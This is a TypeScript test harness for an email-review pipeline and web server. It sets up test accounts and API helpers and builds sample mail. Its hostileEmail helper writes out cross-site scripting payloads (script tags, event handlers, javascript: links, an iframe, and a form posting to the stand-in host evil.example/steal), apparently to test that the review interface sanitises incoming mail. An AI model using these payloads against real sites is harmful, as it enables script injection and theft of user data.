// The pipeline harness plus the review web server: drafts routed to review, three accounts with API tokens,
// helpers to deliver sample mail, call the JSON API and act as a browser (cookies + CSRF tokens) over fetch.
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { simpleParser, type ParsedMail } from "mailparser";
import { startHarness, type DbKind, type Harness } from "./pipeline-harness.js";
import { startWeb, type RunningWeb } from "../../src/adapters/http/web-app.js";
import { createAccountStore } from "../../src/adapters/db/account-store.js";
import { createPasswordHasher } from "../../src/adapters/http/password-hasher.js";
import { addUser, createApiToken } from "../../src/app/accounts.js";
import { waitForSettled } from "../../src/adapters/db/progress.js";

export const SAMPLES = join(import.meta.dirname, "..", "..", "samples");

export interface TestUser {
  email: string;
  password: string;
  token: string;
}

export interface ReviewHarness {
  h: Harness;
  web: RunningWeb;
  users: { alice: TestUser; bob: TestUser; admin: TestUser };
  /** delivers raw messages and waits until all inbound mail so far is settled */
  deliver(raws: Buffer[]): Promise<void>;
  /** fetch against the web server with a bearer token */
  api(token: string, method: string, path: string, body?: unknown): Promise<{ status: number; json: any }>;
  stop(): Promise<void>;
}

/** Starts pipeline (routing: review) and web server on a free port. */
export async function startReviewHarness(kind: DbKind, env: Record<string, string> = {}): Promise<ReviewHarness> {
  const h = await startHarness(kind, { CASEDESK_ROUTING: "review", WEB_LOGIN_RATE_PER_MINUTE: "30", ...env });
  const web = await startWeb(h.core, { host: "127.0.0.1", port: 0 });
  const accounts = createAccountStore(h.core.db);
  const hasher = createPasswordHasher();
  const make = async (email: string, role: string): Promise<TestUser> => {
    const password = `pw-${email}-correct-horse`;
    await addUser(accounts, hasher, { email, role, password });
    return { email, password, token: await createApiToken(accounts, email) };
  };
  const users = { alice: await make("alice@consult.test", "consultant"), bob: await make("bob@consult.test", "consultant"), admin: await make("admin@consult.test", "admin") };
  let delivered = 0;
  return {
    h, web, users,
    async deliver(raws) {
      for (const r of raws) await h.deliverer.deliver(r);
      delivered += raws.length;
      await waitForSettled(h.core.db, delivered, 90_000);
    },
    async api(token, method, path, body) {
      const res = await fetch(`${web.url}${path}`, {
        method, headers: { authorization: `Bearer ${token}`, ...(body !== undefined ? { "content-type": "application/json" } : {}) },
        body: body !== undefined ? JSON.stringify(body) : undefined,
      });
      const text = await res.text();
      let json: unknown = null;
      try {
        json = JSON.parse(text);
      } catch {
        json = text;
      }
      return { status: res.status, json };
    },
    async stop() {
      await web.close();
      await h.stop();
    },
  };
}

/** Reads sample emails by file-name prefix ("01", "02", …). */
export async function readSamples(prefixes: string[]): Promise<Array<{ raw: Buffer; parsed: ParsedMail }>> {
  const { readdir } = await import("node:fs/promises");
  const files = (await readdir(SAMPLES)).filter((f) => f.endsWith(".eml")).sort();
  return Promise.all(prefixes.map(async (p) => {
    const f = files.find((x) => x.startsWith(`${p}-`));
    if (!f) throw new Error(`no sample ${p}`);
    const raw = await readFile(join(SAMPLES, f));
    return { raw, parsed: await simpleParser(raw) };
  }));
}

/** A hostile HTML email: script tags, event handlers, javascript: links, an iframe, a form, a remote image. */
export function hostileEmail(messageId: string): Buffer {
  const html = [
    "<html><head><script>window.top.__pwned = 'head-script'; alert('head')</script></head><body>",
    "<p>Is 32664 billable twice for a bilateral procedure?</p>",
    "<script>window.parent.__pwned = 'body-script'; document.title = 'PWNED'</script>",
    "<img src=x onerror=\"window.parent.__pwned='onerror';alert('img')\">",
    "<svg onload=\"window.parent.__pwned='svg'\"><circle r=5></circle></svg>",
    "<a href=\"javascript:window.parent.__pwned='link'\" id=jslink>click me</a>",
    "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>",
    "<form action=\"https://evil.example/steal\"><input name=p><button>go</button></form>",
    "<img src=\"https://tracker.example/pixel.gif\">",
    "<div style=\"color:red\" onclick=\"alert(1)\">styled <b>bold</b></div>",
    "</body></html>",
  ].join("\r\n");
  const b64 = Buffer.from(html).toString("base64").replace(/.{76}/g, "$&\r\n");
  const text = "Is 32664 billable twice for a bilateral procedure? <script>alert('text')</script>";
  return Buffer.from([
    `Message-ID: <${messageId}>`, `Date: ${new Date().toUTCString()}`, "From: Mallory <mallory@hostile.example>", "To: Case Desk <support@example.test>",
    "Subject: <script>alert('subject')</script> 32664 question", "MIME-Version: 1.0", 'Content-Type: multipart/alternative; boundary="b1"', "",
    "--b1", "Content-Type: text/plain; charset=utf-8", "", text, "--b1", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "", b64, "--b1--", "",
  ].join("\r\n"));
}
